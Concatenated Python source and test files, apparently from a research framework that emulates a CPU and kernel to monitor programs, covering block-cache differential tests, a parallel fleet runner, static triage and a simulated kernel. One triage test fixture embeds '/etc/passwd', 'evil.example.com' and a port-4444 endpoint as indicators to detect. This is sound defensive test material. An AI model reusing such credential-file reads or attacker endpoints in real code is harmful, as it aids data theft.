            Instruction(Opcode.INT, Imm(0x80)),
            Instruction(Opcode.NOP),
        ])
        assert steps[-1].kind is StepKind.SYSCALL

    def test_hlt(self):
        steps = run_differential([
            Instruction(Opcode.NOP),
            Instruction(Opcode.HLT),
        ])
        assert steps[-1].kind is StepKind.HALT

    def test_shift_counts_masked_like_x86(self):
        # the satellite fix: huge/negative counts take the low 6 bits in
        # both engines instead of allocating astronomically large ints
        for count in (0, 1, 63, 64, 65, 1000, -1):
            run_differential(
                [
                    Instruction(Opcode.MOV, Reg("eax"), Imm(3)),
                    Instruction(Opcode.SHL, Reg("eax"), Reg("ecx")),
                    Instruction(Opcode.SHR, Reg("eax"), Imm(1)),
                    Instruction(Opcode.HLT),
                ],
                setup=lambda cpu, c=count: cpu.regs.set("ecx", c),
            )

    def test_div_and_mod_truncate_toward_zero(self):
        for lhs, rhs in ((7, 2), (-7, 2), (7, -2), (-7, -2)):
            run_differential(
                [
                    Instruction(Opcode.DIV, Reg("eax"), Reg("ebx")),
                    Instruction(Opcode.MOD, Reg("ecx"), Reg("ebx")),
                    Instruction(Opcode.HLT),
                ],
                setup=lambda cpu, l=lhs, r=rhs: (
                    cpu.regs.set("eax", l),
                    cpu.regs.set("ecx", l),
                    cpu.regs.set("ebx", r),
                ),
            )


class TestFaultParity:
    def test_division_by_zero_mid_block(self):
        run_differential([
            Instruction(Opcode.MOV, Reg("eax"), Imm(6)),
            Instruction(Opcode.MOV, Reg("ebx"), Imm(0)),
            Instruction(Opcode.DIV, Reg("eax"), Reg("ebx")),
            Instruction(Opcode.HLT),
        ])

    def test_static_zero_divisor(self):
        run_differential([
            Instruction(Opcode.MOV, Reg("eax"), Imm(6)),
            Instruction(Opcode.DIV, Reg("eax"), Imm(0)),
            Instruction(Opcode.HLT),
        ])

    def test_unsupported_interrupt_vector(self):
        run_differential([
            Instruction(Opcode.NOP),
            Instruction(Opcode.INT, Imm(0x21)),
        ])

    def test_jump_to_unmapped(self):
        run_differential([
            Instruction(Opcode.JMP, Imm(0x5000)),
        ])

    def test_faulting_instruction_not_retired(self):
        mem = make_memory([
            Instruction(Opcode.MOV, Reg("eax"), Imm(1)),
            Instruction(Opcode.DIV, Reg("eax"), Imm(0)),
            Instruction(Opcode.HLT),
        ])
        plan = translate_block(mem, 0)
        cpu = make_cpu(mem)
        rec = plan.execute(cpu, 100)
        assert rec.kind == EXIT_FAULT
        assert rec.executed == 1         # only the MOV retired
        assert "division by zero" in str(rec.fault)
        assert cpu.pc == 2               # pc advanced past the faulting op
        assert cpu.halted

    def test_holes_align_with_retired_prefix(self):
        # a store retires (appending its hole) before the fault: the
        # taint cursor must see exactly the retired holes
        mem = make_memory([
            Instruction(Opcode.STORE, Mem("ebx", 5), Imm(1)),
            Instruction(Opcode.DIV, Reg("eax"), Imm(0)),
        ])
        plan = translate_block(mem, 0)
        cpu = make_cpu(mem)
        cpu.regs.set("ebx", 0x300)
        rec = plan.execute(cpu, 100)
        assert rec.executed == 1
        assert rec.holes == [0x305]


class TestBudget:
    def test_partial_execution_parks_pc(self):
        mem = make_memory([
            Instruction(Opcode.ADD, Reg("eax"), Imm(1)),
            Instruction(Opcode.ADD, Reg("eax"), Imm(10)),
            Instruction(Opcode.ADD, Reg("eax"), Imm(100)),
            Instruction(Opcode.HLT),
        ])
        plan = translate_block(mem, 0)
        cpu = make_cpu(mem)
        rec = plan.execute(cpu, 2)
        assert rec.kind == EXIT_BUDGET
        assert rec.executed == 2
        assert cpu.pc == 2               # parked on the first unexecuted op
        assert cpu.regs.get("eax") == 11

    def test_resume_after_budget_matches_interpreter(self):
        instructions = [
            Instruction(Opcode.MOV, Reg("ecx"), Imm(5)),
            Instruction(Opcode.ADD, Reg("eax"), Reg("ecx")),
            Instruction(Opcode.SUB, Reg("ecx"), Imm(1)),
            Instruction(Opcode.CMP, Reg("ecx"), Imm(0)),
            Instruction(Opcode.JNZ, Imm(1)),
            Instruction(Opcode.HLT),
        ]
        # quantum of 3: every block entry is throttled, forcing repeated
        # partial executions and mid-block re-entries
        cpu_a = make_cpu(make_memory(instructions))
        steps = 0
        while steps < 200:
            step = cpu_a.step()
            steps += 1
            if step.kind is StepKind.HALT:
                break
        cpu_b = make_cpu(make_memory(instructions))
        executed = 0
        while executed < 200:
            plan = translate_block(cpu_b.memory, cpu_b.pc)
            rec = plan.execute(cpu_b, min(3, 200 - executed))
            executed += rec.executed
            if rec.kind not in (EXIT_CONTINUE, EXIT_BUDGET):
                break
        assert rec.kind == EXIT_HALT
        assert executed == steps
        assert cpu_b.regs._values == cpu_a.regs._values
        assert cpu_b.pc == cpu_a.pc

    def test_budget_zero_instructions_never_needed(self):
        # the kernel guarantees limit >= 1; a full-length limit runs the
        # whole block including its terminator
        mem = make_memory([
            Instruction(Opcode.NOP),
            Instruction(Opcode.JMP, Imm(0)),
        ])
        plan = translate_block(mem, 0)
        cpu = make_cpu(mem)
        rec = plan.execute(cpu, plan.length)
        assert rec.kind == EXIT_CONTINUE
        assert rec.executed == plan.length
        assert rec.next_pc == 0
