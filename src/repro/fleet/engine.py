"""The fleet coordinator: shard, spawn, stream, merge.

:func:`run_fleet` takes an ordered task list, splits it across N worker
processes (:func:`shard`), streams per-run records off a result queue as
they finish, and merges them — ordered by task index — into a
:class:`FleetReport` whose per-run report dicts are bit-identical to
running the same tasks serially with the same options.

Determinism contract
--------------------
* Every run happens on a *fresh* machine; workers share nothing but a
  per-process warm engine cache whose reuse is semantics-free (the
  differential suites hold that line).
* Records carry their task index; the coordinator sorts by it, so the
  merged report does not depend on worker count, shard strategy, or
  scheduling.  ``workers=1`` runs the identical code path in-process and
  is the serial baseline the determinism tests compare against.
* Wall-clock facts (``elapsed``, ``wall_seconds``) and scheduling facts
  (``worker``, ``attempts``) live outside the per-run report dicts.

Failure containment: a worker that dies without delivering its sentinel
(segfault, OOM kill) costs only its unfinished tasks — the coordinator
synthesizes error records for them and the fleet completes.

Graceful shutdown: SIGTERM/SIGINT during :func:`run_fleet` requests a
*drain* instead of dying mid-merge — workers finish the task they are
on and skip the rest, the coordinator synthesizes ``cancelled`` records
for skipped tasks, and the caller still gets a complete, schema-
versioned :class:`FleetReport` with ``partial=True``.  A second signal
falls through to the default handler (hard kill) — the escape hatch
when a drain itself wedges.
"""

from __future__ import annotations

import multiprocessing
import queue as queue_mod
import signal
import threading
import time
import zlib
from typing import Dict, List, Optional, Sequence, Union

from repro.api import Session
from repro.cache.store import VerdictCache, merge_cache_stats
from repro.cache.triage import cluster_order, simhash64
from repro.core.options import RunOptions
from repro.fleet.merge import merged_telemetry
from repro.fleet.refs import FleetTask, WorkloadRef, make_tasks
from repro.fleet.report import CANCELLED_PREFIX, FleetReport, FleetRunRecord
from repro.fleet.worker import (
    DEFAULT_BACKOFF,
    DEFAULT_MAX_RETRY_WALL,
    run_task_with_retry,
    worker_main,
)

SHARD_STRATEGIES = ("interleave", "chunk", "name", "cluster")

#: How long the coordinator waits on the result queue before checking
#: worker liveness, seconds.
_POLL_INTERVAL = 0.1


def shard(
    tasks: Sequence[FleetTask], workers: int, shard_by: str = "interleave"
) -> List[List[FleetTask]]:
    """Split tasks into per-worker shards (some may be empty).

    * ``interleave`` — round-robin by task index: balances mixed-cost
      sweeps (the default).
    * ``chunk`` — contiguous slices: preserves registry locality, so a
      worker's warm engine sees related workloads back to back.
    * ``name`` — stable hash of the workload name: the same workload
      always lands on the same worker regardless of task order (useful
      for seed sweeps repeating each workload many times).
    * ``cluster`` — static-triage similarity order (simhash over opcode
      n-grams, see :mod:`repro.cache.triage`), then contiguous chunks:
      near-duplicate variants share a worker and its warm caches.
      Purely a scheduling choice — the merged report is still ordered
      by task index, so results are unchanged.
    """
    if shard_by not in SHARD_STRATEGIES:
        raise ValueError(
            f"unknown shard strategy {shard_by!r}; "
            f"expected one of {SHARD_STRATEGIES}"
        )
    shards: List[List[FleetTask]] = [[] for _ in range(workers)]
    if shard_by in ("chunk", "cluster"):
        ordered = cluster_tasks(tasks) if shard_by == "cluster" else tasks
        per, extra = divmod(len(ordered), workers)
        start = 0
        for i in range(workers):
            size = per + (1 if i < extra else 0)
            shards[i] = list(ordered[start:start + size])
            start += size
    elif shard_by == "name":
        for task in tasks:
            wid = zlib.crc32(task.ref.name.encode()) % workers
            shards[wid].append(task)
    else:
        for i, task in enumerate(tasks):
            shards[i % workers].append(task)
    return shards


def cluster_tasks(tasks: Sequence[FleetTask]) -> List[FleetTask]:
    """Tasks reordered so statically-similar workloads are adjacent.

    Each task's workload is resolved and assembled (deterministic, no
    execution) and its triage simhash drives a nearest-neighbour chain.
    A task whose workload will not resolve keeps simhash 0 — it still
    lands in a shard, and the failure surfaces as a normal run record.
    """
    pairs = []
    for task in tasks:
        try:
            image = task.ref.resolve().image()
        except Exception:
            pairs.append((task, 0))
        else:
            pairs.append((task, simhash64(image.text)))
    return cluster_order(pairs)


def _normalize_tasks(
    work: Sequence[Union[FleetTask, WorkloadRef]],
    options: Optional[RunOptions],
) -> List[FleetTask]:
    if all(isinstance(item, FleetTask) for item in work):
        tasks = list(work)
        indexes = [t.index for t in tasks]
        if sorted(indexes) != list(range(len(tasks))):
            raise ValueError(
                "FleetTask indexes must be a permutation of 0..N-1"
            )
        return tasks
    if any(isinstance(item, FleetTask) for item in work):
        raise TypeError("mix of FleetTask and WorkloadRef items")
    return make_tasks(list(work), options)


class _DrainGuard:
    """Install drain-on-signal handlers for the duration of a fleet run.

    First SIGTERM/SIGINT sets the stop event (drain); the handlers are
    then restored, so a second signal gets the default behavior (hard
    exit).  Outside the main thread — a fleet launched from a test
    runner thread or the serve daemon — signal handlers cannot be
    installed and the guard is inert.
    """

    SIGNALS = (signal.SIGTERM, signal.SIGINT)

    def __init__(self, stop_event) -> None:
        self.stop_event = stop_event
        self._saved: Dict[int, object] = {}

    def _on_signal(self, signum, frame) -> None:
        self.stop_event.set()
        self.restore()

    def install(self) -> "_DrainGuard":
        if threading.current_thread() is not threading.main_thread():
            return self
        for sig in self.SIGNALS:
            try:
                self._saved[sig] = signal.signal(sig, self._on_signal)
            except (ValueError, OSError):  # pragma: no cover - defensive
                pass
        return self

    def restore(self) -> None:
        while self._saved:
            sig, handler = self._saved.popitem()
            try:
                signal.signal(sig, handler)
            except (ValueError, OSError):  # pragma: no cover - defensive
                pass


def _cancelled_record(task: FleetTask, worker_id: int) -> FleetRunRecord:
    return FleetRunRecord(
        index=task.index,
        name=task.ref.name,
        worker=worker_id,
        attempts=0,
        error=(
            f"{CANCELLED_PREFIX}: shutdown requested before this task "
            "started (fleet drained in-flight work)"
        ),
    )


def _run_serial(
    tasks: List[FleetTask],
    max_retries: int,
    backoff: float,
    stop_event=None,
    max_retry_wall: float = DEFAULT_MAX_RETRY_WALL,
    cache_dir: Optional[str] = None,
) -> tuple:
    """The workers=1 path: same retry loop, same warm session, in-process."""
    session = Session(
        cache=VerdictCache(disk_dir=cache_dir) if cache_dir else None
    )
    records = []
    for task in sorted(tasks, key=lambda t: t.index):
        if stop_event is not None and stop_event.is_set():
            records.append(_cancelled_record(task, worker_id=0))
            continue
        wire = run_task_with_retry(
            session, task, worker_id=0,
            max_retries=max_retries, backoff=backoff,
            max_retry_wall=max_retry_wall,
        )
        records.append(FleetRunRecord.from_wire(wire))
    cache_parts = (
        [session.cache.snapshot()] if session.cache is not None else []
    )
    return records, cache_parts


def _mp_context(name: Optional[str] = None):
    """Fork where available (cheap, inherits the imported stack), spawn
    otherwise; ``worker_main`` is importable so both work."""
    if name is not None:
        return multiprocessing.get_context(name)
    methods = multiprocessing.get_all_start_methods()
    return multiprocessing.get_context(
        "fork" if "fork" in methods else "spawn"
    )


def _collect(
    procs: Dict[int, "multiprocessing.process.BaseProcess"],
    assigned: Dict[int, List[FleetTask]],
    result_queue,
    stop_event=None,
) -> tuple:
    """Drain the result queue until every worker finished or died."""
    records: Dict[int, FleetRunRecord] = {}
    cache_parts: Dict[int, dict] = {}
    clean_exit: set = set()
    done: set = set()
    while len(done) < len(procs):
        try:
            msg = result_queue.get(timeout=_POLL_INTERVAL)
        except queue_mod.Empty:
            for wid, proc in procs.items():
                if wid not in done and not proc.is_alive():
                    done.add(wid)  # died without a sentinel
            continue
        if msg.get("kind") == "worker-done":
            done.add(msg["worker"])
            clean_exit.add(msg["worker"])
            if msg.get("cache"):
                cache_parts[msg["worker"]] = msg["cache"]
        else:
            records[msg["index"]] = FleetRunRecord.from_wire(msg)
    # Synthesize records for tasks that never reported: cancelled when
    # their worker drained cleanly after a stop request, error when it
    # died under them.
    draining = stop_event is not None and stop_event.is_set()
    for wid, tasks in assigned.items():
        for task in tasks:
            if task.index in records:
                continue
            if draining and wid in clean_exit:
                records[task.index] = _cancelled_record(task, worker_id=wid)
            else:
                exit_code = procs[wid].exitcode
                records[task.index] = FleetRunRecord(
                    index=task.index,
                    name=task.ref.name,
                    worker=wid,
                    attempts=0,
                    error=(
                        f"worker {wid} died before finishing this task "
                        f"(exit code {exit_code})"
                    ),
                )
    ordered_records = [records[i] for i in sorted(records)]
    # Deterministic merge: worker order, not arrival order.
    ordered_parts = [cache_parts[wid] for wid in sorted(cache_parts)]
    return ordered_records, ordered_parts


def run_fleet(
    work: Sequence[Union[FleetTask, WorkloadRef]],
    options: Optional[RunOptions] = None,
    workers: int = 4,
    shard_by: str = "interleave",
    max_retries: int = 1,
    backoff: float = DEFAULT_BACKOFF,
    max_retry_wall: float = DEFAULT_MAX_RETRY_WALL,
    mp_start_method: Optional[str] = None,
    stop_event=None,
    cache_dir: Optional[str] = None,
) -> FleetReport:
    """Run a workload set across N processes and merge the results.

    ``work`` is either a list of :class:`WorkloadRef` (numbered here,
    all sharing ``options``) or pre-built :class:`FleetTask` items with
    per-task options (seed sweeps).  ``workers`` is clamped to the task
    count; ``workers=1`` runs in-process with identical semantics.

    ``cache_dir`` attaches every worker's Session to one shared on-disk
    verdict cache; the merged report gains ``cache_stats`` (per-worker
    counters summed in worker order — deterministic regardless of
    arrival order).  Records stay bit-identical with or without it.

    SIGTERM/SIGINT (or an externally provided ``stop_event``) drains:
    in-flight tasks finish, skipped ones become ``cancelled`` records,
    and the merged report comes back with ``partial=True``.  Pass a
    pre-built event (``multiprocessing.Event()`` — or the matching
    context's event for a custom ``mp_start_method``) to drive drains
    programmatically; signal handlers are installed either way when on
    the main thread.
    """
    started = time.perf_counter()
    tasks = _normalize_tasks(work, options)
    workers = max(1, min(int(workers), len(tasks) or 1))
    ctx = _mp_context(mp_start_method)
    if stop_event is None:
        stop_event = ctx.Event() if workers > 1 else threading.Event()
    guard = _DrainGuard(stop_event).install()

    try:
        if workers == 1:
            records, cache_parts = _run_serial(
                tasks, max_retries, backoff,
                stop_event=stop_event, max_retry_wall=max_retry_wall,
                cache_dir=cache_dir,
            )
        else:
            shards = shard(tasks, workers, shard_by)
            result_queue = ctx.Queue()
            procs: Dict[int, object] = {}
            assigned: Dict[int, List[FleetTask]] = {}
            for wid, worker_tasks in enumerate(shards):
                if not worker_tasks:
                    continue
                proc = ctx.Process(
                    target=worker_main,
                    args=(wid, worker_tasks, result_queue,
                          max_retries, backoff, stop_event,
                          max_retry_wall, cache_dir),
                    daemon=True,
                )
                proc.start()
                procs[wid] = proc
                assigned[wid] = worker_tasks
            try:
                records, cache_parts = _collect(
                    procs, assigned, result_queue, stop_event
                )
            finally:
                for proc in procs.values():
                    proc.join(timeout=5.0)
                    if proc.is_alive():
                        proc.terminate()
                        proc.join(timeout=5.0)
                result_queue.close()
    finally:
        guard.restore()

    return FleetReport(
        workers=workers,
        shard_by=shard_by,
        max_retries=max_retries,
        runs=records,
        wall_seconds=time.perf_counter() - started,
        telemetry=merged_telemetry(records),
        partial=stop_event.is_set(),
        cache_stats=(
            merge_cache_stats(cache_parts) if cache_dir else None
        ),
    )
