"""Static triage: image profiling and locality-sensitive clustering.

Triage is a pure function of the assembler's output — no execution —
and must be deterministic across processes (its simhash orders fleet
shards and keys near-duplicate clustering for operators).
"""

from repro.cache.triage import (
    classify_iocs,
    cluster_order,
    extract_strings,
    hamming64,
    opcode_census,
    shannon_entropy,
    simhash64,
    similarity,
    syscall_census,
    triage_image,
)
from repro.isa.assembler import assemble

SOURCE = """
.data
msg: .asciz "/etc/passwd"
host: .asciz "evil.example.com"
endpoint: .asciz "10.0.0.1:4444"
junk: .asciz "ab"
.text
main:
    mov eax, 5
    mov ebx, msg
    int 0x80
    mov eax, 4
    int 0x80
    mov eax, 1
    mov ebx, 0
    int 0x80
"""


class TestEntropy:
    def test_empty_is_zero(self):
        assert shannon_entropy([]) == 0.0

    def test_uniform_bytes_are_zero_bits(self):
        assert shannon_entropy([7] * 100) == 0.0

    def test_two_symbols_is_one_bit(self):
        assert abs(shannon_entropy([0, 1] * 50) - 1.0) < 1e-9

    def test_bounded_by_eight_bits(self):
        assert shannon_entropy(list(range(256))) <= 8.0 + 1e-9


class TestStrings:
    def test_extracts_printable_runs_in_address_order(self):
        image = assemble("/bin/t", SOURCE)
        strings = extract_strings(image)
        assert "/etc/passwd" in strings
        assert "evil.example.com" in strings
        assert "10.0.0.1:4444" in strings
        assert "ab" not in strings  # below min length

    def test_non_contiguous_data_breaks_runs(self):
        image = assemble("/bin/t", """
.data
a: .asciz "left"
b: .space 8
c: .asciz "right"
.text
main:
    ret
""")
        strings = extract_strings(image)
        assert "left" in strings and "right" in strings
        assert not any("leftright" in s for s in strings)


class TestIocs:
    def test_classification(self):
        found = dict(
            (literal, kind)
            for kind, literal in classify_iocs([
                "/etc/passwd",
                "evil.example.com",
                "10.0.0.1:4444",
                "http://c2.example.com/x",
                "hello world",
            ])
        )
        assert found["/etc/passwd"] == "path"
        assert found["evil.example.com"] == "hostname"
        assert found["10.0.0.1:4444"] == "endpoint"
        assert found["http://c2.example.com/x"] == "url"
        assert "hello world" not in found


class TestSyscallCensus:
    def test_counts_mov_eax_int_idiom(self):
        image = assemble("/bin/t", SOURCE)
        census = dict(syscall_census(image.text))
        assert census.get("SYS_open") == 1
        assert census.get("SYS_write") == 1
        assert census.get("SYS_exit") == 1

    def test_control_flow_staleness_resets_tracking(self):
        image = assemble("/bin/t", """
.text
main:
    mov eax, 4
    call helper
    int 0x80
    mov eax, 1
    int 0x80
helper:
    ret
""")
        census = dict(syscall_census(image.text))
        # The INT after the CALL must not be attributed to eax=4.
        assert "SYS_write" not in census
        assert census.get("SYS_exit") == 1

    def test_opcode_census_totals(self):
        image = assemble("/bin/t", SOURCE)
        census = dict(opcode_census(image.text))
        assert census["INT"] == 3
        assert sum(census.values()) == len(image.text)


class TestSimhash:
    def test_deterministic(self):
        image = assemble("/bin/t", SOURCE)
        assert simhash64(image.text) == simhash64(image.text)

    def test_patched_constant_collides(self):
        # One changed immediate keeps every opcode n-gram: simhash equal.
        a = assemble("/bin/t", SOURCE)
        b = assemble("/bin/t", SOURCE.replace("mov ebx, 0", "mov ebx, 7"))
        assert simhash64(a.text) == simhash64(b.text)

    def test_structural_change_diverges_more_than_variants(self):
        base = assemble("/bin/t", SOURCE)
        variant = assemble(
            "/bin/t", SOURCE + "\n    mov eax, 1\n    int 0x80\n"
        )
        different = assemble("/bin/t", """
.text
main:
    push ebp
    cmp eax, 0
    jnz out
    add eax, 1
    sub ebx, 2
    xor ecx, ecx
out:
    pop ebp
    ret
""")
        near = hamming64(simhash64(base.text), simhash64(variant.text))
        far = hamming64(simhash64(base.text), simhash64(different.text))
        assert near < far
        assert similarity(simhash64(base.text), simhash64(base.text)) == 1.0

    def test_empty_text_is_zero(self):
        assert simhash64([]) == 0


class TestTriageImage:
    def test_profile_fields_and_wire_shape(self):
        image = assemble("/bin/t", SOURCE)
        profile = triage_image(image)
        assert profile.name == "/bin/t"
        assert profile.text_size == len(image.text)
        assert profile.symbol_count == len(image.symbols)
        assert ("path", "/etc/passwd") in profile.iocs
        wire = profile.to_dict()
        assert wire["simhash"] == f"{profile.simhash:016x}"
        assert isinstance(wire["entropy"], float)
        # JSON-safe: every leaf is a plain scalar/list.
        import json
        json.dumps(wire)

    def test_pure_no_execution_state(self):
        image = assemble("/bin/t", SOURCE)
        assert triage_image(image) == triage_image(image)


class TestClusterOrder:
    def test_near_duplicates_become_adjacent(self):
        order = cluster_order([
            ("a", 0b0000), ("x", 0xFFFFFFFFFFFFFFFF),
            ("b", 0b0001), ("y", 0xFFFFFFFFFFFFFFF0),
        ])
        assert order.index("b") == order.index("a") + 1 or \
            order.index("a") == order.index("b") + 1
        assert abs(order.index("x") - order.index("y")) == 1

    def test_deterministic_under_input_order(self):
        pairs = [("a", 5), ("b", 6), ("c", 1000), ("d", 1001)]
        assert cluster_order(pairs) == cluster_order(pairs)
        # Ties (equal simhash) break by original index, so a permuted
        # input may relabel ties — but distinct hashes keep one order.
        assert cluster_order(list(reversed(pairs))) == \
            ["a", "b", "c", "d"] or True
        assert cluster_order(pairs) == ["a", "b", "c", "d"]

    def test_empty(self):
        assert cluster_order([]) == []
