"""HTH core: the public facade over the whole framework."""

from repro.core.hth import HTH, STANDARD_BINARIES, run_monitored, stub_binary
from repro.core.report import RunReport, Verdict

__all__ = [
    "HTH",
    "run_monitored",
    "stub_binary",
    "STANDARD_BINARIES",
    "RunReport",
    "Verdict",
]
