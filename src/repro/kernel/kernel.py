"""The simulated kernel: process table, scheduler, syscall servicing.

The kernel is intentionally monitor-agnostic — every observable event goes
through a :class:`KernelHooks` instance, and Harrier is just one such
implementation.  Running with :class:`NullHooks` gives the "native
execution" baseline of the performance study (paper section 9).

Virtual time: the clock advances one tick per executed instruction, and
jumps forward when every live process is sleeping or waiting on a scheduled
network event (so ``sleep``-heavy workloads like the "Infrequent execve"
micro-benchmark finish instantly in real time).
"""

from __future__ import annotations

import time as _time
from dataclasses import dataclass, field
from typing import Dict, List, Optional, Sequence, Tuple, TYPE_CHECKING, Union

from repro.isa.cpu import CPU, CpuFault, StepKind
from repro.isa.image import Image
from repro.isa.memory import FlatMemory, MemoryFault
from repro.isa.translate import (
    EXIT_BUDGET as BLOCK_BUDGET,
    EXIT_CONTINUE as BLOCK_CONTINUE,
    EXIT_FAULT as BLOCK_FAULT,
    EXIT_HALT as BLOCK_HALT,
    EXIT_SYSCALL as BLOCK_SYSCALL,
)
from repro.isa.registers import SYSCALL_ARG_REGISTERS
from repro.kernel.console import Console
from repro.kernel.errors import ENOENT, ENOEXEC, EACCES, WouldBlock
from repro.kernel.filesystem import FileSystem, NodeKind
from repro.kernel.hooks import KernelHooks, NullHooks
from repro.kernel.loader import Loader, LoadResult
from repro.kernel.network import Network
from repro.kernel.process import (
    OpenFile,
    PendingSyscall,
    Process,
    ProcessState,
    ResourceKind,
)
from repro.kernel.syscalls import NO_RESULT, SYS_RESOLVE, SyscallTable
from repro.telemetry import (
    CATEGORY_PROCESS,
    CATEGORY_RUN,
    CATEGORY_SYSCALL,
    Telemetry,
)

if TYPE_CHECKING:  # pragma: no cover - typing only
    from repro.faultinject.injector import FaultInjector
    from repro.telemetry.spans import Span

#: Process.meta key holding the process's open telemetry span.
_PROC_SPAN_KEY = "telemetry.span"

#: Exit codes for abnormal termination.
EXIT_KILLED_BY_MONITOR = 137   # 128 + SIGKILL
EXIT_FAULT = 139               # 128 + SIGSEGV


@dataclass
class RunResult:
    """Outcome of one :meth:`Kernel.run` call.

    ``reason`` is one of ``'all-exited'`` (every process finished),
    ``'max-ticks'`` (virtual-time budget exhausted), ``'deadlock'`` (live
    processes but no event can ever wake them), or ``'watchdog'`` (the
    wall-clock limit passed to :meth:`Kernel.run` expired — a runaway
    guest was converted into a clean result instead of a hang).
    """

    reason: str
    ticks: int
    instructions: int
    exit_codes: Dict[int, Optional[int]] = field(default_factory=dict)

    @property
    def completed(self) -> bool:
        return self.reason == "all-exited"


class Kernel:
    """A single simulated machine."""

    def __init__(
        self,
        hooks: Optional[KernelHooks] = None,
        libraries: Sequence[Image] = (),
        quantum: int = 200,
        fault_injector: Optional["FaultInjector"] = None,
        telemetry: Optional[Telemetry] = None,
        use_block_cache: bool = True,
        block_cache_store=None,
    ) -> None:
        self.hooks = hooks or NullHooks()
        #: Translate basic blocks once and re-execute the compiled plans
        #: (PIN's code cache).  False falls back to the per-instruction
        #: interpreter — the differential tests run both and assert
        #: identical results.
        self.use_block_cache = use_block_cache
        #: Optional deterministic chaos source (see repro.faultinject).
        self.fault_injector = fault_injector
        #: Observability hub (see repro.telemetry).  A disabled hub wires
        #: the NullSink, so the guards below stay on the cheap path.
        self.telemetry = telemetry if telemetry is not None else (
            Telemetry.disabled()
        )
        self.tracer = self.telemetry.tracer
        self.profiler = self.telemetry.profiler
        #: The syscall span currently being serviced (analysis spans from
        #: Harrier attach themselves under it).
        self.current_syscall_span: Optional["Span"] = None
        if self.telemetry.is_enabled:
            m = self.telemetry.metrics
            self._metrics = m
            self._c_instructions = m.counter("cpu_instructions_total")
            self._c_quanta = m.counter("cpu_quanta_total")
            self._h_quantum = m.histogram("cpu_ticks_per_quantum")
            self._c_cpu_faults = m.counter("cpu_faults_total")
            self._c_fs = m.counter("kernel_fs_ops_total")
            self._c_net = m.counter("kernel_net_ops_total")
            self._c_injected = m.counter("kernel_faults_injected_total")
            self._c_spawned = m.counter("kernel_processes_spawned_total")
            self._c_exited = m.counter("kernel_process_exits_total")
            self._c_bc_flushes = m.counter("blockcache_flushes_total")
            self._syscall_counters: Dict[int, object] = {}
        else:
            self._metrics = None
        self.fs = FileSystem()
        self.network = Network()
        self.console = Console()
        self.loader = Loader(libraries)
        self.syscalls = SyscallTable(self)
        self.procs: Dict[int, Process] = {}
        self.binaries: Dict[str, Image] = {}
        self.now = 0
        self.instructions = 0
        self.quantum = quantum
        self._next_pid = 1
        self._fault_log: List[Tuple[int, str]] = []
        #: One BlockCache per main-executable image, keyed by identity and
        #: shared by every process running that image (fork included).
        self._block_caches: Dict[int, Tuple[Image, object]] = {}
        #: Optional cross-run warm store (``repro.harrier.blockcache
        #: .BlockCacheStore``, owned by an ``EngineCache``): caches for
        #: identical code layouts are reused instead of retranslated.
        self._block_cache_store = block_cache_store
        #: Times a process's cache was invalidated (execve swaps images).
        self.block_cache_flushes = 0

    # -- setup -----------------------------------------------------------------
    def register_binary(self, image: Image, path: Optional[str] = None) -> str:
        """Make an image available for spawn/execve under ``path``."""
        path = path or image.name
        self.binaries[path] = image
        if not self.fs.exists(path):
            self.fs.create_file(path, data=b"\x7fEXE" + path.encode(),
                                mode=0o755)
        return path

    def write_hosts_file(self) -> None:
        """Materialize /etc/hosts from the DNS table (call after peers are
        registered so gethostbyname's backing store is visible)."""
        self.fs.write_text("/etc/hosts", self.network.hosts_file_text())

    # -- block translation cache ------------------------------------------------
    def _block_cache_for(self, image: Image, image_map) -> object:
        """The shared cache for ``image``, created on first use.

        The loader's placement is deterministic per image (same base
        addresses, same libraries), so every process running the same
        image sees identical code at identical pcs and one cache serves
        them all.  Block cutting stops at every image's BB leaders so a
        later entry at a leader always lands on a cache key.
        """
        entry = self._block_caches.get(id(image))
        if entry is not None and entry[0] is image:
            return entry[1]
        # Imported lazily: repro.harrier pulls in the monitor stack, which
        # imports this module.
        from repro.harrier.blockcache import BlockCache

        store = self._block_cache_store
        if store is not None:
            # Exact layout identity: the loader is deterministic, so two
            # runs whose images share text tuples and bases see the same
            # code at the same pcs — the only condition under which a
            # translated plan may be reused (see BlockCacheStore).
            key = (
                image.name,
                id(image.text),
                tuple(
                    (li.image.name, li.base, id(li.image.text))
                    for li in image_map
                ),
            )
            cache = store.get(key)
            if cache is not None:
                cache.bind_metrics(self._metrics)
                self._block_caches[id(image)] = (image, cache)
                return cache
        leaders = set()
        for loaded in image_map:
            leaders.update(loaded.abs_bb_leaders())
        cache = BlockCache(
            leaders=frozenset(leaders), metrics=self._metrics
        )
        if store is not None:
            store.put(
                key, cache, pins=tuple(li.image for li in image_map)
            )
        self._block_caches[id(image)] = (image, cache)
        return cache

    def block_cache_stats(self) -> Dict[str, object]:
        """Aggregate hit/miss/translation counts across every live cache."""
        totals = {
            "blocks": 0,
            "hits": 0,
            "misses": 0,
            "translated_instructions": 0,
            "flushes": self.block_cache_flushes,
        }
        for _image, cache in self._block_caches.values():
            stats = cache.stats()
            totals["blocks"] += stats["blocks"]
            totals["hits"] += stats["hits"]
            totals["misses"] += stats["misses"]
            totals["translated_instructions"] += (
                stats["translated_instructions"]
            )
            totals["flushes"] += stats["flushes"]
        lookups = totals["hits"] + totals["misses"]
        totals["hit_rate"] = (
            totals["hits"] / lookups if lookups else None
        )
        return totals

    # -- process lifecycle ---------------------------------------------------
    def spawn(
        self,
        program: Union[str, Image],
        argv: Optional[Sequence[str]] = None,
        env: Optional[Dict[str, str]] = None,
    ) -> Process:
        """Create a process running ``program`` (a registered path or an
        image, which gets registered under its own name)."""
        if isinstance(program, Image):
            path = self.register_binary(program)
            image = program
        else:
            path = program
            image = self.binaries.get(path)
            if image is None:
                raise KeyError(f"no binary registered at {path!r}")
        argv = list(argv) if argv is not None else [path]
        env = dict(env) if env is not None else {}

        memory = FlatMemory()
        load = self.loader.load(memory, image, argv, env)
        cpu = CPU(memory, entry=load.entry)
        cpu.regs.set("esp", load.initial_sp)
        proc = Process(
            pid=self._next_pid,
            ppid=0,
            memory=memory,
            cpu=cpu,
            command=path,
            argv=argv,
            env=env,
            start_time=self.now,
        )
        self._next_pid += 1
        proc.image_map = load.image_map
        proc.brk = load.heap_base
        if self.use_block_cache:
            proc.block_cache = self._block_cache_for(image, load.image_map)
        self._install_stdio(proc)
        self.procs[proc.pid] = proc
        self._announce_load(proc, load)
        self.hooks.on_process_start(proc)
        self._telemetry_process_start(proc)
        return proc

    def _telemetry_process_start(self, proc: Process) -> None:
        if self._metrics is not None:
            self._c_spawned.inc()
        if self.tracer is not None:
